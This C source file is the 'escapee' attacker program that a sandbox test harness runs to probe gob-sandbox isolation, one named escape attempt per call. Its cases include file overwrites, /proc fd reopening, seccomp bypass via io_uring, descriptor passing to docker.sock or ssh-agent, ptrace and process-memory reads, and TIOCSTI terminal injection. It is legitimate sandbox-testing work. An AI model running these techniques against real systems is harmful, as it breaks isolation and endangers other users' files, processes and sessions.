/*
 * escapee: the attacker the gob-sandbox escape tests run inside the sandbox.
 *
 *   escapee <case> [args...]
 *
 * Each invocation performs ONE named attack and prints exactly one line
 *
 *   RESULT <case> blocked <detail>     exit 0: the attack failed (detail is
 *                                      usually errno=<NAME>)
 *   RESULT <case> ESCAPED <detail>     exit 1: the attack worked
 *   RESULT <case> <other>              exit 0: a report the test judges
 *                                      (daemon, flood)
 *   ERROR <case> <message>             exit 2: the attack could not be set up
 *
 * on stdout (stderr for `flood`, whose stdout is the attack), possibly
 * preceded by INFO lines. Output goes through write(2), never stdio buffers,
 * so forked children cannot duplicate it.
 *
 * Built by the test harness with `gcc -static -O1` so that it needs nothing
 * inside the sandbox but itself. Keep it one file; one small function a case.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/fs.h>
#include <linux/netlink.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static const char *g_case = "?";
static int g_out = 1; /* where the RESULT line goes */

static const char *ename(int e)
{
	static char buf[32];
	const char *n = e ? strerrorname_np(e) : "0";
	if (n)
		return n;
	snprintf(buf, sizeof buf, "E%d", e);
	return buf;
}

static void vline(int fd, const char *verdict, const char *fmt, va_list ap)
{
	char msg[4096];
	int n = snprintf(msg, sizeof msg, "RESULT %s %s%s", g_case, verdict, *verdict ? " " : "");
	n += vsnprintf(msg + n, sizeof msg - n - 1, fmt, ap);
	if (n > (int)sizeof msg - 2)
		n = sizeof msg - 2;
	msg[n++] = '\n';
	(void)!write(fd, msg, n);
}

/* The attack failed: exit status 0. */
static int blocked(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	vline(g_out, "blocked", fmt, ap);
	va_end(ap);
	return 0;
}

static int blocked_errno(int e) { return blocked("errno=%s", ename(e)); }

/* The attack worked: exit status 1. */
static int escaped(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	vline(g_out, "ESCAPED", fmt, ap);
	va_end(ap);
	return 1;
}

/* A report the test judges: exit status 0. */
static int report(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	vline(g_out, "", fmt, ap);
	va_end(ap);
	return 0;
}

/* The attack could not even be attempted: exit status 2. */
static int fail(const char *fmt, ...)
{
	char msg[4096];
	va_list ap;
	int n = snprintf(msg, sizeof msg, "ERROR %s ", g_case);
	va_start(ap, fmt);
	n += vsnprintf(msg + n, sizeof msg - n - 1, fmt, ap);
	va_end(ap);
	if (n > (int)sizeof msg - 2)
		n = sizeof msg - 2;
	msg[n++] = '\n';
	(void)!write(g_out, msg, n);
	return 2;
}

static void info(const char *fmt, ...)
{
	char msg[4096];
	va_list ap;
	int n = snprintf(msg, sizeof msg, "INFO %s ", g_case);
	va_start(ap, fmt);
	n += vsnprintf(msg + n, sizeof msg - n - 1, fmt, ap);
	va_end(ap);
	if (n > (int)sizeof msg - 2)
		n = sizeof msg - 2;
	msg[n++] = '\n';
	(void)!write(1, msg, n);
}

#define NEED(n)                                                                \
	do {                                                                   \
		if (argc < (n))                                                \
			return fail("needs %d argument(s)", (n));              \
	} while (0)

static long num(const char *s) { return strtol(s, NULL, 0); }

/* Printable prefix of what was read, for ESCAPED details. */
static const char *preview(const char *buf, ssize_t n)
{
	static char out[40];
	ssize_t i, m = n < 32 ? n : 32;
	for (i = 0; i < m; i++)
		out[i] = (buf[i] >= 32 && buf[i] < 127) ? buf[i] : '.';
	out[m] = 0;
	return out;
}

/* ---------------------------------------------------------------- reading */

/* read <path>: open and read a file. */
static int c_read(int argc, char **argv)
{
	char buf[256];
	NEED(1);
	int fd = open(argv[0], O_RDONLY);
	if (fd < 0)
		return blocked_errno(errno);
	ssize_t n = read(fd, buf, sizeof buf);
	if (n < 0)
		return blocked("errno=%s (open succeeded, read failed)", ename(errno));
	return escaped("read %zd bytes: %s", n, preview(buf, n));
}

static int cmpstr(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* list <dir> [allowed names...]: the directory may hold only the allowed names. */
static int c_list(int argc, char **argv)
{
	char *names[512], joined[8192] = "";
	int n = 0, bad = 0;
	NEED(1);
	DIR *d = opendir(argv[0]);
	if (!d)
		return blocked_errno(errno);
	struct dirent *e;
	while ((e = readdir(d)) && n < 512) {
		if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
			continue;
		names[n++] = strdup(e->d_name);
	}
	qsort(names, n, sizeof *names, cmpstr);
	for (int i = 0; i < n; i++) {
		int ok = 0;
		for (int j = 1; j < argc; j++)
			ok |= !strcmp(names[i], argv[j]);
		bad |= !ok;
		if (i)
			strncat(joined, ",", sizeof joined - strlen(joined) - 1);
		strncat(joined, names[i], sizeof joined - strlen(joined) - 1);
	}
	if (bad)
		return escaped("entries=%s", joined);
	return blocked("entries=%s", joined);
}

/* reopen-rw <path>: open read-only, then reopen the fd read-write through /proc/self/fd. */
static int c_reopen_rw(int argc, char **argv)
{
	char p[64];
	NEED(1);
	int fd = open(argv[0], O_RDONLY);
	if (fd < 0)
		return fail("cannot open %s read-only: %s", argv[0], ename(errno));
	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
	int w = open(p, O_RDWR);
	if (w < 0)
		return blocked_errno(errno);
	if (write(w, "pwned\n", 6) < 0)
		return blocked("errno=%s (reopened, write failed)", ename(errno));
	return escaped("reopened %s read-write and wrote", argv[0]);
}

/* proc-scan <marker>: look for a process whose cmdline holds marker. */
static int c_proc_scan(int argc, char **argv)
{
	NEED(1);
	DIR *d = opendir("/proc");
	if (!d)
		return blocked_errno(errno);
	struct dirent *e;
	int seen = 0;
	while ((e = readdir(d))) {
		char p[300], buf[4096];
		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		seen++;
		snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
		int fd = open(p, O_RDONLY);
		if (fd < 0)
			continue;
		ssize_t n = read(fd, buf, sizeof buf - 1);
		close(fd);
		if (n <= 0)
			continue;
		for (ssize_t i = 0; i < n; i++)
			if (!buf[i])
				buf[i] = ' ';
		buf[n] = 0;
		if (strstr(buf, argv[0]) && strcmp(e->d_name, "self") && atoi(e->d_name) != getpid())
			return escaped("pid %s has the marker", e->d_name);
	}
	return blocked("not-found processes=%d", seen);
}

/* ---------------------------------------------------------------- writing */

/* write-trunc <path>: open O_WRONLY|O_TRUNC and write. */
static int c_write_trunc(int argc, char **argv)
{
	NEED(1);
	int fd = open(argv[0], O_WRONLY | O_TRUNC);
	if (fd < 0)
		return blocked_errno(errno);
	(void)!write(fd, "pwned\n", 6);
	return escaped("truncated and wrote %s", argv[0]);
}

/* write-new <path>: create (or truncate) a file and write. */
static int c_write_new(int argc, char **argv)
{
	NEED(1);
	int fd = open(argv[0], O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0)
		return blocked_errno(errno);
	if (write(fd, "pwned\n", 6) != 6)
		return blocked("errno=%s (created, write failed)", ename(errno));
	return escaped("wrote %s", argv[0]);
}

/* create <path>: create a file; a report, not a verdict (a private /tmp may
 * accept it: the test checks where it landed). */
static int c_create(int argc, char **argv)
{
	NEED(1);
	int fd = open(argv[0], O_WRONLY | O_CREAT | O_EXCL, 0644);
	if (fd < 0)
		return blocked_errno(errno);
	if (write(fd, "created\n", 8) != 8)
		return blocked("errno=%s (created, write failed)", ename(errno));
	return report("created");
}

/* truncate <path>: truncate(2) by path. */
static int c_truncate(int argc, char **argv)
{
	NEED(1);
	if (truncate(argv[0], 0) < 0)
		return blocked_errno(errno);
	return escaped("truncated %s", argv[0]);
}

/* chmod <path>: make it world-writable. */
static int c_chmod(int argc, char **argv)
{
	NEED(1);
	if (chmod(argv[0], 0777) < 0)
		return blocked_errno(errno);
	return escaped("chmod 0777 %s", argv[0]);
}

/* utimes <path>: set both times to the epoch. */
static int c_utimes(int argc, char **argv)
{
	struct timespec ts[2] = {{0, 0}, {0, 0}};
	NEED(1);
	if (utimensat(AT_FDCWD, argv[0], ts, 0) < 0)
		return blocked_errno(errno);
	return escaped("utimes %s", argv[0]);
}

/* chown <path> <uid> <gid>: hand a file to someone else. */
static int c_chown(int argc, char **argv)
{
	NEED(3);
	if (chown(argv[0], num(argv[1]), num(argv[2])) < 0)
		return blocked_errno(errno);
	return escaped("chown %s", argv[0]);
}

/* fchmod <path>: open read-only (what a declared input allows), then make it
 * setuid and world-writable through the descriptor. */
static int c_fchmod(int argc, char **argv)
{
	NEED(1);
	int fd = open(argv[0], O_RDONLY);
	if (fd < 0)
		return blocked("errno=%s (open)", ename(errno));
	if (fchmod(fd, 04777) < 0)
		return blocked_errno(errno);
	return escaped("fchmod 04777 %s", argv[0]);
}

/* setxattr <path>: set a user xattr by path. */
static int c_setxattr(int argc, char **argv)
{
	NEED(1);
	if (setxattr(argv[0], "user.gob-escape", "1", 1, 0) < 0)
		return blocked_errno(errno);
	return escaped("setxattr %s", argv[0]);
}

/* setflags <path>: open read-only, then chattr +A (no atime) via ioctl. */
static int c_setflags(int argc, char **argv)
{
	NEED(1);
	int fd = open(argv[0], O_RDONLY);
	if (fd < 0)
		return blocked("errno=%s (open)", ename(errno));
	int flags = FS_NOATIME_FL;
	if (ioctl(fd, FS_IOC_SETFLAGS, &flags) < 0)
		return blocked_errno(errno);
	return escaped("FS_IOC_SETFLAGS %s", argv[0]);
}

/* unlink <path> */
static int c_unlink(int argc, char **argv)
{
	NEED(1);
	if (unlink(argv[0]) < 0)
		return blocked_errno(errno);
	return escaped("unlinked %s", argv[0]);
}

/* rename <from> <to> */
static int c_rename(int argc, char **argv)
{
	NEED(2);
	if (rename(argv[0], argv[1]) < 0)
		return blocked_errno(errno);
	return escaped("renamed %s to %s", argv[0], argv[1]);
}

/* link <from> <to>: hard link, then write through the new name. */
static int c_link(int argc, char **argv)
{
	NEED(2);
	if (link(argv[0], argv[1]) < 0)
		return blocked_errno(errno);
	int fd = open(argv[1], O_WRONLY | O_APPEND);
	if (fd < 0)
		return escaped("linked %s to %s (write through it: %s)", argv[0], argv[1], ename(errno));
	(void)!write(fd, "pwned\n", 6);
	return escaped("linked %s to %s and wrote through it", argv[0], argv[1]);
}

/* symlink-write <target> <linkpath>: plant a symlink and write through it. */
static int c_symlink_write(int argc, char **argv)
{
	NEED(2);
	if (symlink(argv[0], argv[1]) < 0)
		return fail("symlink %s -> %s: %s", argv[1], argv[0], ename(errno));
	int fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0)
		return blocked_errno(errno);
	(void)!write(fd, "pwned\n", 6);
	return escaped("wrote through %s -> %s", argv[1], argv[0]);
}

/* chdir-up <path>: chdir("..") 64 times, then open the relative path. */
static int c_chdir_up(int argc, char **argv)
{
	char buf[64];
	NEED(1);
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return fail("chdir ..: %s", ename(errno));
	int fd = open(argv[0], O_RDONLY);
	if (fd < 0)
		return blocked_errno(errno);
	ssize_t n = read(fd, buf, sizeof buf);
	return escaped("read %zd bytes of %s from /: %s", n, argv[0], n > 0 ? preview(buf, n) : "");
}

/* mknod <path> <major> <minor>: a block device node, then read it. */
static int c_mknod(int argc, char **argv)
{
	char buf[512];
	NEED(3);
	if (mknod(argv[0], S_IFBLK | 0600, makedev(num(argv[1]), num(argv[2]))) < 0)
		return blocked_errno(errno);
	int fd = open(argv[0], O_RDONLY);
	if (fd < 0)
		return escaped("created block device %s (open: %s)", argv[0], ename(errno));
	ssize_t n = read(fd, buf, sizeof buf);
	return escaped("created block device %s and read %zd bytes", argv[0], n);
}

/* bigfile <path> <bytes> [keep-signal]: write a file of that size. SIGXFSZ is
 * ignored (so the write fails with EFBIG) unless keep-signal is given. */
static int c_bigfile(int argc, char **argv)
{
	static char chunk[65536];
	NEED(2);
	if (argc < 3)
		signal(SIGXFSZ, SIG_IGN);
	long long want = strtoll(argv[1], NULL, 0), done = 0;
	int fd = open(argv[0], O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0)
		return fail("open %s: %s", argv[0], ename(errno));
	memset(chunk, 'x', sizeof chunk);
	while (done < want) {
		ssize_t n = write(fd, chunk, sizeof chunk);
		if (n < 0)
			return blocked("errno=%s written=%lld", ename(errno), done);
		done += n;
	}
	return escaped("wrote %lld bytes", done);
}

/* ---------------------------------------------------------------- network */

static int inet_addr_of(const char *ip, const char *port, struct sockaddr_in *sa)
{
	memset(sa, 0, sizeof *sa);
	sa->sin_family = AF_INET;
	sa->sin_port = htons(num(port));
	return inet_pton(AF_INET, ip, &sa->sin_addr) == 1 ? 0 : -1;
}

/* tcp <ip> <port>: connect and send. */
static int c_tcp(int argc, char **argv)
{
	struct sockaddr_in sa;
	NEED(2);
	if (inet_addr_of(argv[0], argv[1], &sa) < 0)
		return fail("bad address %s", argv[0]);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return blocked("errno=%s (socket)", ename(errno));
	if (connect(s, (struct sockaddr *)&sa, sizeof sa) < 0)
		return blocked_errno(errno);
	(void)!write(s, "pwned\n", 6);
	return escaped("connected to %s:%s", argv[0], argv[1]);
}

/* udp <ip> <port>: send a datagram. */
static int c_udp(int argc, char **argv)
{
	struct sockaddr_in sa;
	NEED(2);
	if (inet_addr_of(argv[0], argv[1], &sa) < 0)
		return fail("bad address %s", argv[0]);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0)
		return blocked("errno=%s (socket)", ename(errno));
	if (sendto(s, "pwned\n", 6, 0, (struct sockaddr *)&sa, sizeof sa) < 0)
		return blocked_errno(errno);
	return escaped("sent a datagram to %s:%s", argv[0], argv[1]);
}

static socklen_t abstract_addr(const char *name, struct sockaddr_un *sa)
{
	memset(sa, 0, sizeof *sa);
	sa->sun_family = AF_UNIX;
	size_t n = strlen(name);
	if (n > sizeof sa->sun_path - 1)
		n = sizeof sa->sun_path - 1;
	memcpy(sa->sun_path + 1, name, n); /* sun_path[0] == 0: abstract */
	return offsetof(struct sockaddr_un, sun_path) + 1 + n;
}

/* Passes an fd of the cwd over a connected unix socket (SCM_RIGHTS). */
static int send_fd(int s)
{
	int pass = open(".", O_RDONLY | O_DIRECTORY);
	if (pass < 0)
		pass = 0;
	char data = 'x';
	struct iovec iov = {&data, 1};
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} u;
	memset(&u, 0, sizeof u);
	struct msghdr m = {0};
	m.msg_iov = &iov;
	m.msg_iovlen = 1;
	m.msg_control = u.buf;
	m.msg_controllen = sizeof u.buf;
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &pass, sizeof pass);
	return sendmsg(s, &m, 0) < 0 ? errno : 0;
}

/* unix-connect <abstract name>: connect, then pass an fd with SCM_RIGHTS
 * (CVE-2024-27297: a builder passing a writable fd to an outside process). */
static int c_unix_connect(int argc, char **argv)
{
	struct sockaddr_un sa;
	NEED(1);
	socklen_t len = abstract_addr(argv[0], &sa);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (s < 0)
		return blocked("errno=%s (socket)", ename(errno));
	if (connect(s, (struct sockaddr *)&sa, len) < 0)
		return blocked_errno(errno);
	int e = send_fd(s);
	if (e)
		return escaped("connected to @%s (sendmsg SCM_RIGHTS: %s)", argv[0], ename(e));
	return escaped("connected to @%s and passed an fd", argv[0]);
}

/* unix-path-connect <path>: connect to a unix socket by path (an ssh-agent,
 * docker.sock, the user's D-Bus), then pass an fd with SCM_RIGHTS. */
static int c_unix_path_connect(int argc, char **argv)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	NEED(1);
	if (strlen(argv[0]) >= sizeof sa.sun_path)
		return fail("path too long for sun_path");
	strcpy(sa.sun_path, argv[0]);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (s < 0)
		return blocked("errno=%s (socket)", ename(errno));
	if (connect(s, (struct sockaddr *)&sa, sizeof sa) < 0)
		return blocked_errno(errno);
	int e = send_fd(s);
	if (e)
		return escaped("connected to %s (sendmsg SCM_RIGHTS: %s)", argv[0], ename(e));
	return escaped("connected to %s and passed an fd", argv[0]);
}

/* uring-udp <ip> <port>: create the UDP socket with io_uring's
 * IORING_OP_SOCKET (which no seccomp filter on socket(2) sees), then sendto. */
static int c_uring_udp(int argc, char **argv)
{
	struct sockaddr_in sa;
	struct io_uring_params p;
	NEED(2);
	if (inet_addr_of(argv[0], argv[1], &sa) < 0)
		return fail("bad address %s", argv[0]);
	memset(&p, 0, sizeof p);
	int ring = syscall(SYS_io_uring_setup, 4, &p);
	if (ring < 0)
		return blocked("errno=%s (io_uring_setup)", ename(errno));
	size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP)
		sq_len = cq_len = sq_len > cq_len ? sq_len : cq_len;
	char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	char *cq = (p.features & IORING_FEAT_SINGLE_MMAP)
			   ? sq
			   : mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
	struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
					 MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		return fail("mmap io_uring: %s", ename(errno));
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail), mask = *(unsigned *)(sq + p.sq_off.ring_mask);
	unsigned idx = *tail & mask;
	struct io_uring_sqe *e = &sqes[idx];
	memset(e, 0, sizeof *e);
	e->opcode = IORING_OP_SOCKET;
	e->fd = AF_INET;
	e->off = SOCK_DGRAM;
	e->len = 0;
	((unsigned *)(sq + p.sq_off.array))[idx] = idx;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return blocked("errno=%s (io_uring_enter)", ename(errno));
	unsigned head = __atomic_load_n((unsigned *)(cq + p.cq_off.head), __ATOMIC_ACQUIRE);
	unsigned cmask = *(unsigned *)(cq + p.cq_off.ring_mask);
	struct io_uring_cqe *c = (struct io_uring_cqe *)(cq + p.cq_off.cqes) + (head & cmask);
	if (c->res < 0)
		return blocked("errno=%s (IORING_OP_SOCKET)", ename(-c->res));
	if (sendto(c->res, "pwned\n", 6, 0, (struct sockaddr *)&sa, sizeof sa) < 0)
		return blocked_errno(errno);
	return escaped("io_uring made an AF_INET socket and sent a datagram to %s:%s", argv[0], argv[1]);
}

/* unix-listen <abstract name> <ready file> <done file>: listen, create the
 * ready file, and accept until the done file appears (at most 30 s). */
static int c_unix_listen(int argc, char **argv)
{
	struct sockaddr_un sa;
	NEED(3);
	socklen_t len = abstract_addr(argv[0], &sa);
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
	if (s < 0)
		return fail("socket: %s", ename(errno));
	if (bind(s, (struct sockaddr *)&sa, len) < 0)
		return fail("bind @%s: %s", argv[0], ename(errno));
	if (listen(s, 8) < 0)
		return fail("listen: %s", ename(errno));
	int r = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (r < 0)
		return fail("create %s: %s", argv[1], ename(errno));
	close(r);
	for (int i = 0; i < 3000; i++) {
		struct pollfd p = {s, POLLIN, 0};
		if (poll(&p, 1, 10) > 0) {
			int c = accept(s, NULL, NULL);
			if (c >= 0)
				return escaped("accepted a connection on @%s", argv[0]);
		}
		if (access(argv[2], F_OK) == 0)
			return blocked("no-peer");
	}
	return blocked("no-peer (timed out waiting for %s)", argv[2]);
}

/* socket-families: socket(2) and socketpair(2) of every family from 0 to
 * past AF_MAX, each with the common types; anything but AF_UNIX made is an
 * escape. Prints the families each call could make ("-" for none). */
static void add_num(char *list, size_t size, int n)
{
	size_t l = strlen(list);
	snprintf(list + l, size - l, "%s%d", l ? "," : "", n);
}

static int c_socket_families(int argc, char **argv)
{
	static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET};
	char made[512] = "", pairs[512] = "";
	int bad = 0;
	(void)argc, (void)argv;
	for (int f = 0; f < 64; f++) {
		int s_ok = 0, p_ok = 0;
		for (size_t t = 0; t < sizeof types / sizeof *types; t++) {
			int s = socket(f, types[t], 0), sv[2];
			if (s >= 0) {
				s_ok = 1;
				close(s);
			}
			if (socketpair(f, types[t], 0, sv) == 0) {
				p_ok = 1;
				close(sv[0]);
				close(sv[1]);
			}
		}
		if (s_ok)
			add_num(made, sizeof made, f);
		if (p_ok)
			add_num(pairs, sizeof pairs, f);
		bad |= (s_ok || p_ok) && f != AF_UNIX;
	}
	if (bad)
		return escaped("socket=%s socketpair=%s", *made ? made : "-", *pairs ? pairs : "-");
	return blocked("socket=%s socketpair=%s", *made ? made : "-", *pairs ? pairs : "-");
}

/* vsock-listen: an AF_VSOCK stream socket bound to any CID and listening
 * (vsock reaches the hypervisor and is not network-namespaced). */
static int c_vsock_listen(int argc, char **argv)
{
	(void)argc, (void)argv;
	int s = socket(AF_VSOCK, SOCK_STREAM, 0);
	if (s < 0)
		return blocked("errno=%s (socket)", ename(errno));
	struct sockaddr_vm a = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_ANY, .svm_port = VMADDR_PORT_ANY};
	if (bind(s, (struct sockaddr *)&a, sizeof a) < 0)
		return blocked("errno=%s (bind)", ename(errno));
	if (listen(s, 1) < 0)
		return blocked("errno=%s (listen)", ename(errno));
	return escaped("listening on vsock");
}

/* nl-send <port id>: a NETLINK_USERSOCK datagram to a userspace netlink port
 * (unprivileged senders are allowed: a data channel within a network
 * namespace that neither TCP rules nor abstract-socket scoping cover). */
static int c_nl_send(int argc, char **argv)
{
	NEED(1);
	int s = socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK);
	if (s < 0)
		return blocked("errno=%s (socket)", ename(errno));
	struct sockaddr_nl to = {.nl_family = AF_NETLINK, .nl_pid = (unsigned)num(argv[0])};
	char msg[NLMSG_SPACE(8)] = {0};
	struct nlmsghdr *h = (struct nlmsghdr *)msg;
	h->nlmsg_len = NLMSG_LENGTH(6);
	memcpy(NLMSG_DATA(h), "pwned", 6);
	if (sendto(s, msg, h->nlmsg_len, 0, (struct sockaddr *)&to, sizeof to) < 0)
		return blocked_errno(errno);
	return escaped("sent a netlink message to port %s", argv[0]);
}

/* nl-listen <port id> <ready file> <done file>: bind a NETLINK_USERSOCK port,
 * create the ready file, receive until the done file appears (30 s at most). */
static int c_nl_listen(int argc, char **argv)
{
	char buf[256];
	NEED(3);
	int s = socket(AF_NETLINK, SOCK_RAW | SOCK_NONBLOCK, NETLINK_USERSOCK);
	if (s < 0)
		return blocked("errno=%s (socket)", ename(errno));
	struct sockaddr_nl me = {.nl_family = AF_NETLINK, .nl_pid = (unsigned)num(argv[0])};
	if (bind(s, (struct sockaddr *)&me, sizeof me) < 0)
		return fail("bind netlink port %s: %s", argv[0], ename(errno));
	int r = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (r < 0)
		return fail("create %s: %s", argv[1], ename(errno));
	close(r);
	for (int i = 0; i < 3000; i++) {
		struct pollfd p = {s, POLLIN, 0};
		if (poll(&p, 1, 10) > 0 && recv(s, buf, sizeof buf, 0) > 0)
			return escaped("received a netlink message on port %s", argv[0]);
		if (access(argv[2], F_OK) == 0)
			return blocked("no-peer");
	}
	return blocked("no-peer (timed out waiting for %s)", argv[2]);
}

/* netifs <expected...>: the network interfaces, found by index. */
static int c_netifs(int argc, char **argv)
{
	char joined[4096] = "";
	int n = 0, bad = 0;
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);
	if (s < 0)
		return fail("socket: %s", ename(errno));
	for (int i = 1; i < 4096; i++) {
		struct ifreq r;
		memset(&r, 0, sizeof r);
		r.ifr_ifindex = i;
		if (ioctl(s, SIOCGIFNAME, &r) < 0)
			continue;
		int ok = 0;
		for (int j = 0; j < argc; j++)
			ok |= !strcmp(r.ifr_name, argv[j]);
		bad |= !ok;
		if (n++)
			strncat(joined, ",", sizeof joined - strlen(joined) - 1);
		strncat(joined, r.ifr_name, sizeof joined - strlen(joined) - 1);
	}
	if (bad)
		return escaped("ifaces=%s", joined);
	return blocked("ifaces=%s", joined);
}

/* ------------------------------------------------------- other processes */

/* kill <pid>: SIGKILL a process outside. */
static int c_kill(int argc, char **argv)
{
	NEED(1);
	if (kill(num(argv[0]), SIGKILL) < 0)
		return blocked_errno(errno);
	return escaped("killed %s", argv[0]);
}

/* kill-any: kill(-1, 0): may any process besides us be signalled at all? */
static int c_kill_any(int argc, char **argv)
{
	(void)argc, (void)argv;
	if (kill(-1, 0) < 0)
		return blocked_errno(errno);
	return escaped("kill(-1, 0) reached some process");
}

static int trace(int argc, char **argv, int req)
{
	NEED(1);
	pid_t pid = num(argv[0]);
	if (ptrace(req, pid, 0, 0) < 0)
		return blocked_errno(errno);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return escaped("traced %d", pid);
}

/* ptrace-attach <pid> / ptrace-seize <pid>: trace a process outside. */
static int c_ptrace_attach(int argc, char **argv) { return trace(argc, argv, PTRACE_ATTACH); }
static int c_ptrace_seize(int argc, char **argv) { return trace(argc, argv, PTRACE_SEIZE); }

/* vm-read <pid>: process_vm_readv of a process outside. */
static int c_vm_read(int argc, char **argv)
{
	char buf[16];
	NEED(1);
	struct iovec l = {buf, sizeof buf}, r = {(void *)0x400000, sizeof buf};
	if (process_vm_readv(num(argv[0]), &l, 1, &r, 1, 0) < 0)
		return blocked_errno(errno);
	return escaped("read memory of %s", argv[0]);
}

/* tiocsti: push "echo INJECTED" into the terminal's input, on fds 0..2 and /dev/tty. */
static int c_tiocsti(int argc, char **argv)
{
	const char *inject = "echo INJECTED\n";
	char detail[512] = "";
	int any = 0;
	(void)argc, (void)argv;
	for (int fd = -1; fd < 3; fd++) {
		int f = fd, e = 0;
		char who[16];
		if (fd < 0) {
			strcpy(who, "tty");
			f = open("/dev/tty", O_RDWR | O_NOCTTY);
			if (f < 0)
				e = errno;
		} else {
			snprintf(who, sizeof who, "fd%d", fd);
		}
		if (!e) {
			for (const char *c = inject; *c; c++)
				if (ioctl(f, TIOCSTI, c) < 0) {
					e = errno;
					break;
				}
		}
		any |= !e;
		snprintf(detail + strlen(detail), sizeof detail - strlen(detail), "%s%s=%s",
			 *detail ? " " : "", who, e ? ename(e) : "INJECTED");
	}
	return any ? escaped("%s", detail) : blocked("%s", detail);
}

/* ------------------------------------------------ syscalls seccomp denies */

/*
 * Each call uses arguments with which the kernel itself would fail with a
 * known errno (kern) had the call been allowed. Getting kern (or success)
 * means the filter did not stop it; anything else is reported as blocked with
 * that errno, and the test pins the filter's errno.
 */
static int judge(const char *what, long r, int kern)
{
	if (r >= 0)
		return escaped("%s succeeded", what);
	if (errno == kern)
		return escaped("%s reached the kernel: errno=%s", what, ename(errno));
	return blocked_errno(errno);
}

/* Run each namespace flag through f; all must be blocked alike. */
static const struct { const char *name; long flag; } nsflags[] = {
	{"NEWUSER", CLONE_NEWUSER}, {"NEWNS", CLONE_NEWNS},   {"NEWPID", CLONE_NEWPID},
	{"NEWNET", CLONE_NEWNET},   {"NEWUTS", CLONE_NEWUTS}, {"NEWIPC", CLONE_NEWIPC},
	{"NEWCGROUP", CLONE_NEWCGROUP}, {"NEWTIME", 0x80},
};

static int per_ns(const char *call, long (*f)(long), int kern)
{
	int first = -1;
	for (size_t i = 0; i < sizeof nsflags / sizeof *nsflags; i++) {
		errno = 0;
		long r = f(nsflags[i].flag);
		int e = errno;
		char what[64];
		snprintf(what, sizeof what, "%s(CLONE_%s)", call, nsflags[i].name);
		if (r >= 0 || e == kern) {
			errno = e;
			return judge(what, r, kern);
		}
		if (first < 0)
			first = e;
		else if (e != first)
			return blocked("errno=%s but %s gave %s", ename(first), what, ename(e));
	}
	return blocked_errno(first);
}

/* unshare(ns | 1): bit 0 (CSIGNAL) is invalid for unshare, kernel: EINVAL. */
static long do_unshare(long flag) { return syscall(SYS_unshare, flag | 1); }
static int c_sys_unshare(int argc, char **argv) { (void)argc, (void)argv; return per_ns("unshare", do_unshare, EINVAL); }

/* clone(ns | CLONE_THREAD) without CLONE_SIGHAND, kernel: EINVAL. */
static long do_clone(long flag)
{
	long r = syscall(SYS_clone, flag | CLONE_THREAD | SIGCHLD, 0, 0, 0, 0);
	if (r == 0)
		_exit(0);
	return r;
}
static int c_sys_clone_ns(int argc, char **argv) { (void)argc, (void)argv; return per_ns("clone", do_clone, EINVAL); }

